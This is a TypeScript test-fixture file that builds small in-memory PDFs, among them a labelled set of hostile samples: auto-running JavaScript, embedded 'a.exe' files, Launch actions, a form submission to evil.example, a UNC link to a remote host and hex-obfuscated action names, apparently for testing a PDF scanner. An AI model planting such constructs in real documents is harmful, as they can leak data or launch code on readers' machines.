import { deflateSync } from 'node:zlib';

/** A PDF of these objects, numbered from 1; the first is the catalog. */
export function pdfOf(objects: readonly string[], trailer = ''): Buffer {
  const body = objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`);
  return Buffer.from(`%PDF-1.7\n${body.join('')}trailer\n<< /Root 1 0 R ${trailer} >>\n%%EOF\n`, 'latin1');
}

const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const pageWith = (inside: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${inside} >>`;

/** One page, with something in the catalog, in the page, and further objects from 4 on. */
export function onePage({ catalog = '', page = '', more = [] as string[], trailer = '' } = {}): Buffer {
  return pdfOf([`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, pages, pageWith(page), ...more], trailer);
}

/** Objects packed into a compressed stream, as modern writers do; `first` is the number of the first. */
function packed(first: number, objects: readonly string[]): string {
  let offset = 0;
  const places = objects.map((object, index) => {
    const place = `${first + index} ${offset}`;
    offset += object.length + 1;
    return place;
  });
  const head = `${places.join(' ')} `;
  const data = deflateSync(Buffer.from(head + objects.join(' '), 'latin1'));
  return `<< /Type /ObjStm /N ${objects.length} /First ${head.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`;
}

const link = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S ${action} >> >>]`;
const annotation = (subtype: string, inside = '') =>
  `/Annots [<< /Type /Annot /Subtype /${subtype} /Rect [0 0 200 200] ${inside} >>]`;

export const hostilePdfs: Readonly<Record<string, Buffer>> = {
  'script in a compressed object': onePage({
    catalog: '/OpenAction 9 0 R',
    more: [packed(9, ['<< /S /JavaScript /JS (app.alert(1)) >>'])],
  }),
  'files in a compressed object': onePage({
    catalog: '/Names 9 0 R',
    more: [
      packed(9, ['<< /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >>', '<< /Type /Filespec /F (a.exe) >>']),
    ],
  }),
  'a link that sends a form': onePage({ page: link('/SubmitForm /F (https://evil.example/)') }),
  'a link to another file': onePage({ page: link('/GoToR /F (\\\\\\\\evil.example\\\\a.pdf)') }),
  'a link into a file inside': onePage({ page: link('/GoToE /T << /R /C >>') }),
  'a link that brings data in': onePage({ page: link('/ImportData /F (a.fdf)') }),
  'an XFA form': onePage({ catalog: '/AcroForm << /XFA 4 0 R /Fields [] >>', more: ['(<xdp/>)'] }),
  'a form': onePage({ catalog: '/AcroForm << /Fields [4 0 R] >>', more: ['<< /FT /Tx /T (a) >>'] }),
  encryption: onePage({
    trailer: '/Encrypt 4 0 R /ID [<00> <00>]',
    more: ['<< /Filter /Standard /V 1 /R 2 /O (0) /U (0) /P -4 >>'],
  }),
  'a page that acts when it is shown': onePage({ page: '/AA << /O << /S /Launch /F (a.exe) >> >>' }),
  'a file pinned to the page': onePage({ page: annotation('FileAttachment') }),
  'a film that plays': onePage({ page: annotation('RichMedia') }),
  'a screen that plays': onePage({ page: annotation('Screen', '/A << /S /Rendition /OP 4 >>') }),
  'script with letters as numbers': onePage({ catalog: '/OpenAction << /S /#4aava#53cript /#4A#53 (1) >>' }),
  'an action after a harmless one': onePage({
    catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (a.exe) >> >>',
  }),
};

const stamp = '0 0 0 rg 0 0 160 40 re f';

/** A page with a signature field that is signed and shows a black box near its lower edge; nothing acts. */
export const signedPdf = onePage({
  catalog: '/AcroForm << /Fields [4 0 R] /SigFlags 3 >> /Perms << /DocMDP 5 0 R >>',
  page: '/Annots [4 0 R]',
  more: [
    '<< /Type /Annot /Subtype /Widget /FT /Sig /T (Assinatura) /Rect [20 20 180 60] /F 132 /P 3 0 R /V 5 0 R /AP << /N 6 0 R >> >>',
    '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 9 9 9] /Contents <3000> /Reference [<< /TransformMethod /DocMDP /TransformParams << /P 2 >> >>] >>',
    `<< /Type /XObject /Subtype /Form /BBox [0 0 160 40] /Length ${stamp.length} >>\nstream\n${stamp}\nendstream`,
  ],
});
